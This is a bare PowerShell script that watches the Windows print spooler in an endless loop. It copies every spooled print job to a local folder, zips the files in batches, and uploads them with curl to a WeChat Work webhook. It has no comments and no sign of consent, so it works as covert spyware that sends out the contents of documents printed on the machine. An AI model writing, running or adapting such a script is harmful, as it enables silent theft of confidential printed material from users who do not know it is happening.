$src = "$env:windir\System32\spool\PRINTERS"
$dst = "D:\打印缓存"
$hook = "https://qyapi.weixin.qq.com/cgi-bin/webhook/upload_media?key=00000000-1111-2222-3333-000000000000&type=file"
while ($true) {
  Get-ChildItem $src -Include *.SPL,*.SHD -Recurse | ForEach-Object { Copy-Item $_.FullName $dst -Force }
  if ((Get-ChildItem $dst).Count -gt 200) {
    $z = "D:\打印缓存\{0:yyyyMMddHHmm}.zip" -f (Get-Date)
    Compress-Archive "$dst\*.SPL" $z; curl.exe -s -F "media=@$z" $hook; Remove-Item "$dst\*.SPL"
  }
  Start-Sleep 20
}
